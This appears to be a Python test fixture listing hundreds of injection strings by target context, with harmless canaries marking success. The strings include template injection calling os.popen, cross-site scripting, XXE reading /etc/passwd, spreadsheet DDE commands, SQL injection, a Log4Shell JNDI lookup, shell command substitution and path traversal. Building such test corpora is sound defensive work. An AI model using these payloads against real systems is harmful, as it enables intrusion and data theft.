"""Texts that have run as code somewhere, or hide what is there: our own corpus, each with a canary.

What runs in a page sets `window.__x`; what loads something asks 192.0.2.1, which is nobody's address
(RFC 5737); what is computed gives 133713; what a terminal obeys begins with ESC or a C1 control.
"""

from __future__ import annotations

from typing import Final

RAN: Final = "window.__x"
"""What a script would set."""
HOST: Final = "192.0.2.1"
"""Who would be asked."""
COMPUTED: Final = "133713"
"""What a template, a formula or a shell would make of the sums below."""

GROUPS: Final[dict[str, tuple[str, ...]]] = {
    "template": (
        '{{191*700+13}}', '{{ 191*700+13 }}', '{% if 1 %}{{191*700+13}}{% endif %}', '{% raw %}',
        '{% endraw %}', '{# note #}', '{#', '100{% discount', '{%-', '-%}', '{{ self }}',
        '{{ this.get_name() }}', "{{''.__class__}}", '{{ cycler.__init__.__globals__.os.getpid() }}',
        "{{ lipsum.__globals__['os'].popen('id').read() }}", '{% set a = 191*700+13 %}{{a}}',
        "{% include '/etc/passwd' %}", "{% import 'os' as o %}", '${191*700+13}', '${window.__x=1}',
        '`${window.__x=1}`', '#{191*700+13}', '<%= 191*700+13 %>', '{{= 191*700+13 }}', '*{191*700+13}',
        '%(a)s %s %d {0} {name}', '{0.__class__}', '$a ${a} $(a)',
        "{{constructor.constructor('window.__x=1')()}}", '}}{{191*700+13}}{{', '{\u200b{191*700+13}}',
    ),
    "script": (
        '<script>window.__x=1</script>', '</script><script>window.__x=1</script>',
        '<ScRiPt>window.__x=1</sCrIpT>', '<script src=http://192.0.2.1/a.js></script>', '<script>/*',
        '*/window.__x=1</script>', '-->', '<!--', '<!--<script>', ']]><script>window.__x=1</script>',
        '<img src=x onerror=window.__x=1>', '<img src=http://192.0.2.1/x.png>',
        "<img src=x onerror='window.__x=1'", '<IMG SRC="x" ONERROR="window.__x=1">',
        '<body onload=window.__x=1>', '<b onmouseover=window.__x=1>b</b>',
        '\'"><b onmouseover=window.__x=1>', "' onmouseover='window.__x=1",
        '" autofocus onfocus=window.__x=1 x="', '<input autofocus onfocus=window.__x=1>',
        '<details open ontoggle=window.__x=1>', '<video><source onerror=window.__x=1></video>',
        '<audio src=http://192.0.2.1/a.ogg autoplay>', '<iframe src=javascript:parent.__x=1></iframe>',
        "<iframe srcdoc='<script>parent.__x=1</script>'>", '<object data=http://192.0.2.1/a></object>',
        '<embed src=http://192.0.2.1/a>', '<base href=http://192.0.2.1/>',
        '<form action=http://192.0.2.1/><button>a',
        "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'>",
        '<link rel=stylesheet href=http://192.0.2.1/a.css>',
        '<link rel=dns-prefetch href=http://192.0.2.1/>',
        '<template><script>window.__x=1</script></template>',
        "<noscript><p title='</noscript><img src=x onerror=window.__x=1>'>",
        "<math><mi//xlink:href='javascript:window.__x=1'>",
        '<textarea></textarea><img src=x onerror=window.__x=1>', '</title><img src=x onerror=window.__x=1>',
        '</style><img src=x onerror=window.__x=1>', '<marquee onstart=window.__x=1>a</marquee>',
        '<x onclick=window.__x=1>a</x>', '&lt;script&gt;window.__x=1&lt;/script&gt;',
        '&#60;img src=x onerror=window.__x=1&#62;', '\\x3cscript\\x3ewindow.__x=1',
        '\\u003cimg src=x onerror=window.__x=1\\u003e', "';window.__x=1;//", '";window.__x=1;//',
        '`;window.__x=1;`', "\\';window.__x=1;//", '\\', 'alert(1)',
        '<a href=x ping=http://192.0.2.1/>a</a>',
    ),
    "svg": (
        '<svg onload=window.__x=1>', '<svg><script>window.__x=1</script></svg>',
        '<svg/onload=window.__x=1>', '<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>',
        '<svg><image href=http://192.0.2.1/x.svg /></svg>', "<svg><use href='http://192.0.2.1/a#b'/></svg>",
        '<svg><foreignObject><img src=x onerror=window.__x=1></svg>',
        '<svg><a xlink:href=javascript:window.__x=1><text>a</text></a></svg>',
        "<svg><style>@import 'http://192.0.2.1/a'</style>", '<svg><set onbegin=window.__x=1>',
    ),
    "css": (
        "<style>@import 'http://192.0.2.1/a.css'</style>",
        '<p style=background:url(http://192.0.2.1/x.png)>a</p>',
        'red;background:url(http://192.0.2.1/x.png)',
        '</style><style>*{background:url(http://192.0.2.1/x)}',
        '<style>@font-face{font-family:a;src:url(http://192.0.2.1/f)}*{font-family:a}</style>',
        "<div style='position:fixed;inset:0;z-index:9999'>a</div>", 'expression(window.__x=1)',
        '*/}*{display:none}/*', 'url(javascript:window.__x=1)', '<p style=content:attr(a)>',
    ),
    "address": (
        'javascript:window.__x=1', 'JaVaScRiPt:window.__x=1', ' javascript:window.__x=1',
        'java\tscript:window.__x=1', 'java\nscript:window.__x=1', 'javascript&colon;window.__x=1',
        'data:text/html,<script>window.__x=1</script>',
        'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=', 'vbscript:window.__x=1',
        'blob:http://192.0.2.1/a', 'file:///etc/passwd', '//192.0.2.1/a', 'http://192.0.2.1/x.png',
        'https://a@192.0.2.1/', 'https://192.0.2.1\\@b.example/', 'view-source:http://192.0.2.1/',
        'feed:javascript:window.__x=1', '\x01javascript:window.__x=1', 'ftp://192.0.2.1/',
        'https://e.example/"onmouseover=window.__x=1',
        "https://e.example/'><img src=x onerror=window.__x=1>", 'https://e.example/${window.__x=1}',
        'https://e.example/{{191*700+13}}', 'mailto:a@192.0.2.1?attach=/etc/passwd',
    ),
    "xml": (
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>", '&b;', '&#0;', '&#x1;',
        '&#xD800;', '&unknown;', ']]>', '<![CDATA[', "<?xml version='1.0'?>", '<?php echo 191*700+13 ?>',
        '</Placemark><Placemark>', '</description>', '<description><script>window.__x=1</script>', '</kml>',
        '$[name]', '$[description]', '<NetworkLink><Link><href>http://192.0.2.1/',
        "<xi:include href='file:///etc/passwd'/>", '</t></is></c></row>', '_x0041__x003C_', '</SimpleData>',
    ),
    "formula": (
        '=191*700+13', '+191*700+13', '-191*700+13', '@SUM(191*700+13)',
        '=HYPERLINK("http://192.0.2.1/";"a")', "=cmd|' /C calc'!A0",
        '=IMPORTXML("http://192.0.2.1/";"//a")', '=WEBSERVICE("http://192.0.2.1/")', '\t=191*700+13',
        '\r=191*700+13', '\n=191*700+13', ' =191*700+13', '＝191*700+13', '＋191*700+13', 'a;=191*700+13',
        'a,=191*700+13', '"=191*700+13', '",=191*700+13,"', "'=191*700+13", '\ufeff=191*700+13',
        '=DDE("cmd";"/C calc";"a")', '%0A=191*700+13', '=1+1;=2+2', '\xa0=191*700+13',
    ),
    "markdown": (
        '![a](http://192.0.2.1/x.png)', '[a](javascript:window.__x=1)', '[a](http://192.0.2.1/)',
        '<http://192.0.2.1/>', '![a][b]\n\n[b]: http://192.0.2.1/x.png', '# a', '* a', '1. a',
        '| a |\n|---|', '```\na\n```', '`a`', '**a**', '~~a~~', '---', '> a', ':material/home:', ':red[a]',
        ':blue-background[a]', ':rainbow[a]', ':smile:', ':streamlit:', '$x^2$',
        '$$\\href{javascript:window.__x=1}{a}$$', '$\\includegraphics{http://192.0.2.1/x.png}$',
        ':small[a]', ':green-badge[a]', '    code', '[^1]', 'a@192.0.2.1', 'www.192.0.2.1.example', '<br>',
        '&nbsp;', ':image[http://192.0.2.1/x.png]',
    ),
    "direction": (
        '\u202eecilA\u202c \u200f', '\u202e', '\u2066\u2067\u2068', '\u2069', 'a\u202dtxt.exe', '\u061c',
        '\u200e\u200f', '\u05d0\u202e\u05d1',
    ),
    "look-alike": (
        'Кyiv', 'Μoscow', 'Ｋｙｉｖ', 'Kуiv', 'Odesa\u200b', 'Ode\xadsa', 'O\u0301desa\u0301',
        'Z\u0351\u0352\u0353\u0354a', '\U0001d542\U0001d56a\U0001d55a\U0001d567', '\U000e0041b',
    ),
    "control": (
        'nul\x00nul', '\x00', '\x07bell', 'back\x08\x08space', 'form\x0cfeed', 'a\x0bb', 'a\x1fb', 'a\x7fb',
        'a\x80b', 'a\x85b', '\u2028\u2029', 'a\r\nb', 'a\rb', 'a\n\nb', '\ufffe\uffff', '\ufeffa',
        'lone \ud800 surrogate', '\udfff', '\udc41', '\U0010ffff',
    ),
    "terminal": (
        '\x1b[2J\x1b[H', '\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x1b]52;c;d2hvYW1p\x07',
        '\x1b]8;;http://192.0.2.1/\x07a\x1b]8;;\x07', '\x9b31m', '\x1b[6n', '\x1bP$q\x1b\\',
        '\x1b[1A\x1b[2Kgone', '\x9d0;a\x9c',
    ),
    "sql": (
        "'; DROP TABLE article; --", "' OR '1'='1", '" OR ""="', "1; ATTACH '/tmp/x' AS x",
        "%' AND 1=0 UNION SELECT 1--", 'a%_b', '\\%', 'NEAR(a b)', 'a* OR b', '"a', 'a NOT',
    ),
    "shell": (
        '$(expr 191 \\* 700+13)', '`id`', '; id', '| id', '&& id', '-rf', '--help', '~/.ssh', 'a\nid',
        '$HOME', '%PATH%',
    ),
    "path": (
        '../../../../etc/passwd', '..\\..\\a', '/etc/passwd', 'C:\\a', 'a/../b', 'CON', 'a\x00.txt',
        '%2e%2e%2f', '....//', '.', '..', 'static/../app.py',
    ),
    "log": (
        'a\nINFO all is well', 'a\r\nERROR made up', '%s%n%x', '{}', '${jndi:ldap://192.0.2.1/a}',
        'a\x1b[1mINFO',
    ),
    "json": (
        '\u2028window.__x=1', '"}];window.__x=1//', '</script>', '\\u0000\\', '__proto__', 'constructor',
        'hasOwnProperty', 'NaN', 'null', '{"a":1}', 'toString', '0', '-0', '1e999',
    ),
    "long": (
        'A' * 5000, 'a ' * 2000, '<b>' * 1000, '{' * 2000, '\u0301' * 1000, '\U0001f469\u200d' * 300,
        '-' * 3000,
    ),
}  # fmt: skip
"""The texts, by what they attack."""

PAYLOADS: Final[tuple[str, ...]] = tuple(text for group in GROUPS.values() for text in group)
"""All of them."""
